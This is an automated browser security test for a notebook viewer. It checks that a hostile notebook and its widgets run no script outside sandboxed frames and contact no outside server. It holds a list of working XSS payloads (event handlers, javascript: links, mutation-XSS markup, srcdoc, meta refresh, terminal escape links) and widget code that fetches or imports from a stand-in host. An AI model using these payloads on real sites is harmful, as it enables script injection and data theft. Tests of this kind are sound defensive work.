/** A notebook that somebody sent: whatever is in it, opening it runs nothing outside of a frame and asks no other server (S16, S17, S19). */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launch, person } from './browser';
import { Server } from './server';

let server: Server;
let browser: Browser;
beforeAll(async () => {
  [server, browser] = await Promise.all([Server.start(), launch()]);
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

/** Scripts that mark the page they run in, or its parent, and things that would be fetched. */
const mark = "try{top.owned=1}catch{};try{parent.owned=1}catch{};window.owned=1";
const there = 'https://canary.test';
const payloads = [
  `<script>${mark}</script>`,
  `<img src=x onerror="${mark}">`,
  `<svg onload="${mark}"><script>${mark}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark}&gt;">`,
  `<a href="javascript:${mark}" data-command="run-all">press</a>`,
  `<a href="command:run-all">press</a>`,
  `<form action="${there}/form"><input name=attributes><input name=body id=location><button formaction="javascript:${mark}">press</button></form>`,
  `<iframe srcdoc="<script>${mark}</script>"></iframe><object data="${there}/o"></object><embed src="${there}/e">`,
  `<img src="${there}/pixel"><video src="${there}/v" autoplay></video><link rel=stylesheet href="${there}/c"><style>@import '${there}/i'; body{display:none}</style>`,
  `<details open ontoggle="${mark}"><base href="${there}/"><meta http-equiv=refresh content="0;url=${there}/r"></details>`,
  `[press](javascript:${mark}) ![p](${there}/md) <javascript:${mark}>`,
  `$\\href{javascript:${mark}}{x}$ $\\htmlData{command=run-all}{x}$ $\\includegraphics{${there}/tex}$`,
  `\u001b]8;;javascript:${mark}\u001b\\press\u001b]8;;\u001b\\ \u001b]8;;${there}/osc\u001b\\link\u001b]8;;\u001b\\`,
];

function hostile(): string {
  const all = payloads.join('\n\n');
  const display = (data: Record<string, string>) => ({ output_type: 'display_data', metadata: { isolated: false, trusted: true }, data });
  const outputs = [
    { output_type: 'stream', name: 'stdout', text: all },
    { output_type: 'error', ename: payloads[1], evalue: payloads[2], traceback: payloads },
    ...payloads.map((p) => display({ 'text/html': p })),
    ...payloads.map((p) => display({ 'text/markdown': p })),
    display({ 'application/javascript': mark }),
    display({ 'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="${mark}"><image href="${there}/svg"/></svg>` }),
    display({ 'text/latex': payloads[11] ?? '' }),
    display({ 'text/plain': all }),
  ];
  const metadata = { trusted: true, tags: payloads, jupyter: { outputs_hidden: false } };
  const cells = [
    { cell_type: 'code', id: 'code', metadata, source: all, execution_count: 1, outputs },
    ...payloads.map((source, i) => ({ cell_type: 'markdown', id: `m${i}`, metadata, source, attachments: { 'a.svg': { 'image/svg+xml': btoa(`<svg onload="${mark}"/>`) } } })),
    { cell_type: 'raw', id: 'raw', metadata, source: all },
  ];
  return JSON.stringify({ cells, metadata: { title: payloads[1], kernelspec: { name: payloads[1], display_name: payloads[0], language: payloads[2] } }, nbformat: 4, nbformat_minor: 5 });
}

it('marks no page and asks no other server, from any place of a notebook and by its name', async () => {
  const context = await person(browser, server);
  const asked: string[] = [];
  await context.route(/canary\.test/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  // What is looked for would be seen.
  const control = await context.newPage();
  await control.setContent(`<img src="${there}/control"><script>${mark}</script>`);
  await expect.poll(() => asked.length).toBe(1);
  expect(await control.evaluate(() => 'owned' in window)).toBe(true);
  await control.close();
  asked.length = 0;

  const name = "<img src=x onerror=top.owned=1>'\"&.ipynb";
  await writeFile(join(server.folder, name), hostile());
  const page = await context.newPage();
  await page.goto(server.url(name));
  await page.locator('.line-chip', { hasText: 'Live' }).waitFor({ state: 'attached' });
  await page.locator('[data-cell="raw"]').waitFor({ state: 'attached' });
  await page.locator('.panel', { hasText: name }).waitFor();
  for (const cell of await page.locator('[data-cell]').all()) await cell.scrollIntoViewIfNeeded();
  await page.locator('[data-cell="m10"]', { hasText: 'press' }).waitFor({ state: 'attached' });
  const frames = page.locator('[data-cell="code"] .out-frame');
  expect(await frames.count()).toBeGreaterThan(1);
  for (const box of await frames.all()) {
    await box.scrollIntoViewIfNeeded();
    await box.locator('iframe').contentFrame().locator('body > *').first().waitFor({ state: 'attached' });
  }
  expect(asked).toEqual([]);
  // Everything that can be pressed is pressed, and what it opens is closed again.
  const addresses = new Set(await page.locator('[data-cell] a').evaluateAll((links) => links.map((a) => (a instanceof HTMLAnchorElement ? a.href : ''))));
  context.on('page', (other) => void other.close());
  for (const link of await page.locator('[data-cell] a, [data-cell] .out-stream a, [data-cell] summary').all()) await link.click({ timeout: 2_000, noWaitAfter: true }).catch(() => undefined);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  expect(page.frames().length).toBeGreaterThan(1);
  for (const frame of page.frames().slice(1)) expect(await frame.evaluate(() => window.origin)).toBe('null');
  expect(await page.locator('iframe:not([sandbox="allow-scripts"])').count()).toBe(0);
  expect(await page.locator('[data-cell] :is(script, style, form, object, embed, base, meta, [onerror], [onload], [href^="javascript:"], [href^="command:"], [data-command])').count()).toBe(0);
  expect(await page.locator('.cell.is-running, .cell.is-queued').count()).toBe(0);
  // A link that was pressed leads to where it says, an address that was printed too.
  expect(asked).toContain(`${there}/osc`);
  expect(asked.filter((url) => !addresses.has(url))).toEqual([]);
  expect(new URL(page.url()).origin).toBe(server.origin);
  await context.close();
}, 180_000);

/** A notebook whose output shows widgets that bring their code: a box of them, last looked at elsewhere. */
function withCode(codes: readonly object[]): string {
  const model = (module: string, name: string, state: object) => ({ model_module: module, model_module_version: '*', model_name: name, state: { _view_module: module, _view_name: name.replace('Model', 'View'), ...state } });
  const all = Object.fromEntries(codes.map((state, i) => [`w${i}`, model('anywidget', 'AnyModel', { _anywidget_id: `w${i}`, ...state })]));
  const box = model('@jupyter-widgets/controls', 'VBoxModel', { children: Object.keys(all).map((id) => `IPY_MODEL_${id}`) });
  const widgets = { 'application/vnd.jupyter.widget-state+json': { version_major: 2, version_minor: 0, state: { ...all, box } } };
  const shows = (id: string) => ({ output_type: 'display_data', metadata: {}, data: { 'text/plain': `text of ${id}`, 'application/vnd.jupyter.widget-view+json': { model_id: id, version_major: 2, version_minor: 0 } } });
  const cells = ['box', 'w0'].map((id) => ({ cell_type: 'code', id, metadata: {}, source: '', execution_count: 1, outputs: [shows(id)] }));
  return JSON.stringify({ cells, metadata: { widgets }, nbformat: 4, nbformat_minor: 5 });
}

it('a widget’s own code reaches no page and no network, and its place says which address it wanted', async () => {
  const context = await person(browser, server);
  const asked: string[] = [];
  await context.route(/canary\.test/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const rest = (does: string) => ({ _esm: `export default { async render({ el }) { const r = await (async () => { ${does} })().then((v) => 'came: ' + v, (e) => 'kept in: ' + e.name); el.append(r); } }` });
  const tries = [
    `return await (await fetch('${there}/fetch')).text()`,
    `return await new Promise((yes, no) => { const s = new WebSocket('wss://canary.test/s'); s.onopen = yes; s.onerror = () => no(new Error()); })`,
    `return await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error()); i.src = '${there}/i'; })`,
    `return await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = yes; w.onerror = () => no(new Error()); })`,
    `return top.document.title`,
    `return parent.location.href`,
    `return localStorage.length`,
  ];
  const name = 'code.ipynb';
  await writeFile(
    join(server.folder, name),
    withCode([
      { _esm: `${there}/esm.js` },
      { _esm: `import x from "${there}/static.js"; export default { render() {} }` },
      { _esm: `export default { async render({ el }) { el.append('so far '); await import("${there}/dynamic.js") } }` },
      { _esm: `export default { async initialize() { await fetch("${there}/data.json") } }` },
      { _esm: `export default { render({ el }) { el.append('drawn'); ${mark} } }`, _css: `${there}/css.css` },
      { _esm: `export default { render() {} }`, _css: `@import url("${there}/import.css"); * { background: url("${there}/b") }` },
      ...tries.map(rest),
    ]),
  );
  const page = await context.newPage();
  await page.goto(server.url(name));
  const said = (cell: string) => page.locator(`[data-cell="${cell}"]`).frameLocator('iframe[title="Widget"]').locator('body').innerText();
  const wants = (path: string) => `This widget loads ${there}/${path}, and Runnel’s frames reach no network\\.`;
  await expect.poll(() => said('box'), { timeout: 60_000 }).toMatch(
    new RegExp(['esm.js', 'static.js'].map(wants).join('\\s+') + `\\s+so far\\s+${wants('dynamic.js')}\\s+${wants('data.json')}\\s+drawn\\s+${wants('css.css')}(\\s+kept in: \\w+){${tries.length}}\\s*$`),
  );
  await expect.poll(() => said('w0')).toMatch(new RegExp(wants('esm.js')));
  await page.locator('[data-cell="w0"] .out-text', { hasText: 'text of w0' }).waitFor();
  expect(await page.locator('[data-cell="box"] .out-text').count()).toBe(0);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  expect(asked).toEqual([]);
  await context.close();
});
